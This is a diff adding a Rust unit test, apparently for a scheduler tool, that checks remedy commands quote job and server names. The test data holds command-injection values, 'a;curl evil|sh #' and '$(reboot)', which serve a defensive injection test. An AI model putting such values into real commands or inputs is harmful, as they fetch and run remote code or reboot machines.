@@ -240,6 +240,19 @@ async fn a_fire_after_other_jobs_that_no_instance_began_is_told_too() {
     assert_eq!(found(DUE + 70_001).await, None);
 }
 
+#[test]
+fn a_command_of_a_remedy_runs_nothing_of_a_name() {
+    let job = JobName::new("a;curl evil|sh #").unwrap();
+    let command = |remedy: Remedy| remedy.command(&job).unwrap();
+    assert_eq!(command(Remedy::Trigger), "elasticjob trigger 'a;curl evil|sh #'");
+    let server = Remedy::EnableServer("$(reboot)".to_owned());
+    assert_eq!(command(server), "elasticjob enable --job 'a;curl evil|sh #' --server '$(reboot)'");
+    for remedy in [Remedy::CorrectConfiguration, Remedy::ChangeSchedule, Remedy::EnableServers, Remedy::EnableItem(0)] {
+        let command = command(remedy);
+        assert!(command.contains("'a;curl evil|sh #'"), "{command}");
+    }
+}
+
 #[tokio::test]
 async fn the_schedule_is_followed_since_the_note_of_the_leader_where_it_is_of_that_schedule() {
     let desk = ready().await;
